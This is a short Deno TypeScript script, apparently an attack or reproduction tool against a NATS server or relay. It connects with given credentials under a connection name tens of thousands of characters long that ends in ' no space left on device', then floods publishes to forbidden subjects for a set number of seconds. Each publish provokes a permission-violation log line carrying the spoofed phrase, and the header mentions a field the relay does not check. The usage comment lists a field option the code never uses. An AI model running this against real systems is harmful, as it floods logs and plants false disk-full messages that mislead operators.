// Keeps provoking permission-violation lines that carry a long, phrase-ending connection name
// for `secs` seconds. Usage: deno run -A log_flood_for.ts <url> <creds> <secs> [nameLen] [field]
// field: "name" (default) or "version" (the CONNECT field the relay does not check).
import { connect, credsAuthenticator } from "nats";
const [url, credsFile, secsStr, lenStr] = Deno.args;
const secs = Number(secsStr ?? "20");
const len = Number(lenStr ?? "60000");
const name = "A".repeat(len) + " no space left on device";
const nc = await connect({
  servers: url,
  authenticator: credsAuthenticator(new TextEncoder().encode(await Deno.readTextFile(credsFile))),
  name,
  maxReconnectAttempts: -1,
  reconnectTimeWait: 200,
});
(async () => {
  for await (const _ of nc.status()) { /* errors are expected */ }
})();
const end = Date.now() + secs * 1000;
let i = 0;
while (Date.now() < end) {
  for (let k = 0; k < 100; k++) nc.publish(`forbidden.subject.${i++}`, "x");
  await nc.flush().catch(() => {});
}
await nc.close().catch(() => {});
console.log("sent", i);
